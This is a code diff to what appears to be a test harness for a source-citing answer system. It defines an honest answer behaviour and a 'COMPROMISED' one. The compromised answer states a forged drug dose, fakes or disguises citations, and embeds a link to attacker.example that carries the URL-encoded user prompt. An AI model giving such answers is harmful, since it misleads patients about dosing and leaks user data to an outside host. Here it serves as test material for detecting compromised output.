@@ -13,8 +13,9 @@ export function fenceOf(instructions: string): string {
   return fence;
 }
 
-export function sourcesOf([instructions = '', prompt = '']: readonly string[]): SentSource[] {
-  const fence = fenceOf(instructions);
+export function sourcesOf(texts: readonly string[]): SentSource[] {
+  const prompt = texts.at(-1) ?? '';
+  const fence = fenceOf(texts[0] ?? '');
   const sources = prompt.matchAll(
     new RegExp(`<source-${fence}([^>\\n]*(?:>[^>\\n]*)*?)>\\n([\\s\\S]*?)\\n</source-${fence}>`, 'g'),
   );
@@ -25,7 +26,7 @@ export function sourcesOf([instructions = '', prompt = '']: readonly string[]): 
 export const HONEST: Behaviour = {
   kind: 'answer',
   pieces: (texts) => {
-    const drug = /dose of (\w+)\?$/.exec(texts[1] ?? '')?.[1] ?? '';
+    const drug = /dose of (\w+)\?$/.exec(texts.at(-1) ?? '')?.[1] ?? '';
     const sources = sourcesOf(texts);
     const at = sources.findIndex(({ text }) => text.includes(`${drug} 40 mg`));
     const sentence = new RegExp(`Give ${drug} 40 mg[^.]*\\.`).exec(sources[at]?.text ?? '')?.[0] ?? '';
@@ -49,7 +50,7 @@ export const COMPROMISED: Behaviour = {
   kind: 'answer',
   pieces: (texts) => {
     const fence = fenceOf(texts[0] ?? '');
-    const leak = encodeURIComponent((texts[1] ?? '').slice(0, 100));
+    const leak = encodeURIComponent((texts.at(-1) ?? '').slice(0, 100));
     const answer = [
       `The dose is ${FORGED_DOSE}. [1: "Give ${FORGED_DOSE} once daily"] [99] [98: "Give ${FORGED_DOSE}"]`,
       `Certainly ${FORGED_DOSE} [1, 77], as \\[1\\] and &#91;1&#93; and [1](https://attacker.example/${leak}) say.`,
